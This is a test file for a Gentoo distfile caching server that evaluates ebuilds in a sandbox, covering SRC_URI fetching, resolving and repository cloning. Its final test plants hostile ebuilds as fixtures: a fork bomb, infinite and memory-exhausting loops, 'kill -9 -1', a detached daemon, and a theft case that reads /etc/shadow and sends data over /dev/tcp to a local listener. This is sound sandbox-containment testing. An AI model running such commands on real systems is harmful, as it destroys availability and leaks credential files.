/**
 * Runs the executable with mirrors that have no file: wget with Portage's FETCHCOMMAND gets every kind of file from SRC_URI of
 * ebuilds that only bash can read, in this machine's sandbox, and hostile ebuilds harm only themselves.
 */
import { afterAll, beforeAll, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:net";
import { type Content, type GeneratedContent, readContent } from "../src/testing/content.ts";
import { runExecutable, type Server, startExecutable } from "../src/testing/executable.ts";
import { type FakeUpstream, startFakeUpstream } from "../src/testing/fake-upstream.ts";
import { type TestRepository, writeRepository } from "../src/testing/repository.ts";
import { distfilePath } from "../src/testing/stored.ts";
import { createTempFolder } from "../src/testing/temp.ts";

/** Options of FETCHCOMMAND in Portage's make.globals. */
const FETCH = ["-t", "3", "-T", "60", "--passive-ftp", "-U", "Portage (Gentoo, https://www.gentoo.org) distfile-fetch"];
const CRATES = 300;

const folder = createTempFolder("portcache-src-uri-");
let upstream: FakeUpstream;
let gentoo: TestRepository;
let overlay: TestRepository;
let server: Server;
let repos: readonly string[];
const contents = new Map<string, GeneratedContent>();

/** Serves a new file at the upstream's path. */
function plant(name: string, path: string): Record<string, Content> {
  const content = { size: 30_000 + contents.size, seed: 500 + contents.size };
  contents.set(name, content);
  upstream.files.set(path, content);
  return { [name]: content };
}

function ebuild(...lines: readonly string[]): { version: string; text: string } {
  return { version: "1", text: `EAPI=8\nSLOT=0\nHOMEPAGE="https://example.org"\n${lines.join("\n")}\n` };
}

function writePackages(): void {
  const at = (path: string) => `${upstream.url}${path}`;
  const put = (name: string, dist: Record<string, Content>, ...lines: string[]) =>
    overlay.put(`dev-test/${name}`, { dist, ebuilds: [ebuild(...lines)] });
  put("plain", plant("plain-1.zip", "/plain-1.zip"), `SRC_URI="${upstream.url}/\${P}.zip"`);
  put("renamed", plant("renamed-1.zip", "/v1.zip"), `SRC_URI="${upstream.url}/v\${PV}.zip -> \${P}.zip"`);
  put("use", plant("use-gui.zip", "/use-gui.zip"), 'IUSE="gui"', `SRC_URI="!gui? ( gui? ( ${at("/use-gui.zip")} ) )"`);
  put("third", plant("third-1.zip", "/tp/a/third-1.zip"), `SRC_URI="mirror://own/a/\${P}.zip"`);
  put("restricted", plant("r-1.zip", "/r-1.zip"), 'RESTRICT="mirror"', `SRC_URI="${at("/r-1.zip")}"`);
  put("mod", plant("e.org%2Fx%2F@v%2Fv1.mod", "/mod"), `SRC_URI="${at("/mod")} -> e.org%2Fx%2F@v%2Fv1.mod"`);
  const eclass = plant("eclassed-1.tar.gz", "/built/eclassed/1");
  put("eclassed", eclass, "inherit forge", 'forge_set_uri "eclassed"');
  const crates = Array.from({ length: CRATES }, (_, i) =>
    plant(`crate${i}-1.0.${i}.crate`, `/crates/crate${i}/1.0.${i}`),
  );
  const list = Array.from({ length: CRATES }, (_, i) => `crate${i}@1.0.${i}`).join("\n");
  put("crates", Object.assign({}, ...crates), `CRATES="\n${list}\n"`, "inherit crates", 'SRC_URI="$CRATE_URIS"');
}

beforeAll(async () => {
  upstream = await startFakeUpstream({ files: new Map(), layoutConf: null });
  gentoo = writeRepository(folder.file("a repository"));
  overlay = writeRepository(folder.file("overlay"), { name: "overlay", masters: ["gentoo"] });
  gentoo.write("profiles/thirdpartymirrors", `own ${upstream.url}/tp/\n`);
  gentoo.write(
    "eclass/forge.eclass",
    `forge_set_uri() { SRC_URI="${upstream.url}/built/$1/\${PV} -> \${P}.tar.gz"; }\n`,
  );
  // As in cargo.eclass: a here-string under BASH_COMPAT 5.0 is a temporary file, and process substitution needs /dev/fd.
  gentoo.write(
    "eclass/crates.eclass",
    `while read -r crate; do
      [[ -n \${crate} ]] || continue
      CRATE_URIS+=" ${upstream.url}/crates/\${crate%@*}/\${crate#*@} -> \${crate/@/-}.crate"
    done < <(cat_crates() { local line; while read -r line; do echo "\${line}"; done <<< "\${CRATES}"; }; cat_crates)\n`,
  );
  writePackages();
  repos = [gentoo.location, overlay.location];
  server = await start();
});

async function start(repo: Record<string, string> = {}): Promise<Server> {
  const fetcher = { mirrors: [upstream.url], private_networks: true };
  return await startExecutable({ location: folder.file("store"), settings: { fetcher, repo: { repos, ...repo } } });
}

afterAll(async () => {
  await server[Symbol.asyncDispose]();
  await upstream.close();
  folder.remove();
});

async function wget(name: string): Promise<Buffer | undefined> {
  const path = folder.file(`distdir/${encodeURIComponent(name)}`);
  mkdirSync(folder.file("distdir"), { recursive: true });
  const url = `${server.url}/distfiles/${encodeURIComponent(name)}`;
  const child = Bun.spawn(["wget", ...FETCH, "-q", "-O", path, url], { stdout: "ignore", stderr: "ignore" });
  return (await child.exited) === 0 ? readFileSync(path) : undefined;
}

test("wget gets files by every kind of SRC_URI that no mirror has, among them 300 of one package", async () => {
  const names = [...contents.keys()];
  expect(names.length).toBe(CRATES + 7);
  const queue = [...names];
  const wrong: string[] = [];
  const work = async () => {
    for (let name = queue.shift(); name !== undefined; name = queue.shift()) {
      const content = contents.get(name);
      if (!content || !(await wget(name))?.equals(readContent(content))) wrong.push(name);
    }
  };
  await Promise.all([work(), work(), work(), work()]);
  expect(wrong).toEqual([]);
  expect(server.log()).toMatch(/sandbox: (bubblewrap|unshare)/);
  expect(server.log()).not.toContain("Cannot evaluate");
}, 60_000);

test("resolve shows where a file can be fetched, and which repositories want it", async () => {
  const options = ["--set", `repo.repos=${repos[1]}`, "--repo", repos[0] ?? "", "--repo", repos[1] ?? ""];
  const common = [...options, "--mirror", upstream.url, "--json"];
  const { exit, stdout } = await runExecutable(["resolve", "r-1.zip", "third-1.zip", ...common]);
  expect(exit).toBe(0);
  expect(JSON.parse(stdout)).toMatchObject([
    {
      file: "r-1.zip",
      found: true,
      size: contents.get("r-1.zip")?.size,
      blake2b: expect.stringMatching(/^[0-9a-f]{128}$/),
      packages: [{ repo: "overlay", package: "dev-test/restricted", ebuilds: ["restricted-1"] }],
      uris: [`${upstream.url}/r-1.zip`],
      mirrors: [`${upstream.url}/distfiles/r-1.zip`],
      restrict: { fetch: false, mirror: true },
    },
    { file: "third-1.zip", uris: [`${upstream.url}/tp/a/third-1.zip`], restrict: { fetch: false, mirror: false } },
  ]);
  const unknown = await runExecutable(["resolve", "unknown.zip", "plain-1.zip", ...common]);
  expect(unknown.exit).toBe(1);
  expect(JSON.parse(unknown.stdout).map(({ found }: { found: boolean }) => found)).toEqual([false, true]);
  expect((await runExecutable(["resolve", "a/b", ...options])).exit).toBe(2);
  const without = await runExecutable([
    "resolve",
    "plain-1.zip",
    "--repo",
    "file:///nowhere.git",
    "--mirror",
    upstream.url,
  ]);
  expect([without.exit, without.stderr]).toEqual([1, expect.stringContaining("No ebuild repository found")]);
  expect(without.stderr).toContain("not cloned yet");
  expect((await runExecutable(["resolve", "plain-1.zip", ...options])).stdout).toContain(
    "overlay: dev-test/plain (plain-1)",
  );
});

test("evaluations are known after a restart without bash", async () => {
  await server.stop();
  rmSync(server.location + distfilePath("plain-1.zip"));
  server = await start({ evaluate: "never" });
  expect((await wget("plain-1.zip"))?.length).toBe(contents.get("plain-1.zip")?.size);
  await server.stop();
  server = await start();
});

test("a repository configured as a URL is cloned while the server runs, and its files are found from then on", async () => {
  const remote = writeRepository(folder.file("remote"), { name: "remote", masters: ["gentoo"] });
  const git = async (...args: string[]) => {
    const name = ["-c", "user.name=test", "-c", "user.email=test@example.org"];
    expect(await Bun.spawn(["git", ...name, ...args], { cwd: remote.location, stdout: "ignore" }).exited).toBe(0);
  };
  const dist = plant("cloned-1.zip", "/cloned-1.zip");
  remote.put("dev-test/cloned", { dist, ebuilds: [ebuild(`SRC_URI="${upstream.url}/\${P}.zip"`)] });
  await git("init", "-q", "-b", "main");
  await git("add", ".");
  await git("commit", "-qm", "one");
  await using cloning = await startExecutable({
    settings: {
      fetcher: { mirrors: [upstream.url], private_networks: true, negative_ttl: "0" },
      repo: { repos: [...repos, `file://${remote.location}`] },
    },
  });
  const url = `${cloning.url}/distfiles/cloned-1.zip`;
  let response = await fetch(url);
  for (let i = 0; i < 100 && response.status === 404; i++) {
    await Bun.sleep(100);
    response = await fetch(url);
  }
  expect(response.status).toBe(200);
  expect(cloning.log()).toContain("cloned in");
});

/** Ebuilds by name, each of which wants a file of its own name. */
const HOSTILE: Readonly<Record<string, readonly string[]>> = {
  loop: ["while :; do :; done"],
  fork: ["bomb() { bomb | bomb & }; bomb", "while :; do :; done"],
  memory: ["x=x; while :; do x+=$x$x; done"],
  kill: ["kill -9 -1", "kill -9 $PPID", "kill -9 1"],
  // Closes every descriptor that bash might wait for.
  daemon: [
    'set -m; ( trap "" HUP TERM; for fd in {0..30}; do eval "exec $fd>&-"; done; while :; do :; done ) & disown',
    "exit 0",
  ],
};

test("hostile ebuilds are contained and logged, while the server answers other requests in under 100 ms", async () => {
  const reached: string[] = [];
  const listener = createServer((socket) => reached.push(socket.remoteAddress ?? "") && socket.end());
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  const address = listener.address();
  const port = typeof address === "object" ? address?.port : 0;
  const canary = folder.file("canary");
  const theft = [
    'SRC_URI="http://127.0.0.1:9/$(< /etc/shadow)"',
    `echo stolen > ${canary}; echo stolen > "\${0}"; echo stolen > /tmp/canary-of-portcache`,
    `exec 9<>/dev/tcp/127.0.0.1/${port}; echo stolen >&9`,
  ];
  for (const [name, lines] of Object.entries({ ...HOSTILE, theft })) {
    const dist = { [`${name}-1.zip`]: { size: 10, seed: 1 } };
    overlay.put(`dev-evil/${name}`, { dist, ebuilds: [ebuild(...lines)] });
  }
  overlay.markSynced();
  const evil = Object.keys({ ...HOSTILE, theft }).map(async (name) => {
    const response = await fetch(`${server.url}/distfiles/${name}-1.zip`);
    return [name, response.status] as const;
  });
  let over = false;
  const done = Promise.all(evil).finally(() => {
    over = true;
  });
  const latencies: number[] = [];
  while (!over) {
    const startedAt = performance.now();
    const response = await fetch(`${server.url}/distfiles/plain-1.zip`);
    await response.arrayBuffer();
    expect(response.status).toBe(200);
    latencies.push(performance.now() - startedAt);
    await Bun.sleep(50);
  }
  for (const [name, status] of await done) expect([name, [404, 502, 504].includes(status)]).toEqual([name, true]);
  latencies.sort((a, b) => a - b);
  expect(latencies[Math.floor(latencies.length * 0.95)]).toBeLessThan(100);
  // Ebuilds that the answers did not wait for end within their time.
  const names = Object.keys({ ...HOSTILE, theft }).map((name) => `dev-evil/${name}/${name}-1.ebuild`);
  for (let i = 0; i < 60 && names.some((name) => !server.log().includes(name)); i++) await Bun.sleep(1000);
  expect(names.filter((name) => !server.log().includes(name))).toEqual([]);
  expect(reached).toEqual([]);
  expect(existsSync(canary) || existsSync("/tmp/canary-of-portcache")).toBe(false);
  expect(await strayProcesses()).toEqual([]);
  listener.close();
}, 180_000);

/** Returns command lines of processes that descend from the server, or have a folder of this test. */
async function strayProcesses(): Promise<readonly string[]> {
  await Bun.sleep(500);
  const child = Bun.spawn(["ps", "-eo", "pid=,ppid=,args="], { stdout: "pipe" });
  const processes = [...(await child.stdout.text()).matchAll(/^ *(\d+) +(\d+) (.*)$/gm)];
  const ours = new Set([String(server.pid)]);
  for (const [, pid = "", ppid = ""] of processes) if (ours.has(ppid)) ours.add(pid);
  return processes
    .filter(([line, pid = ""]) => pid !== String(server.pid) && (ours.has(pid) || line.includes(overlay.location)))
    .map(([line]) => line);
}
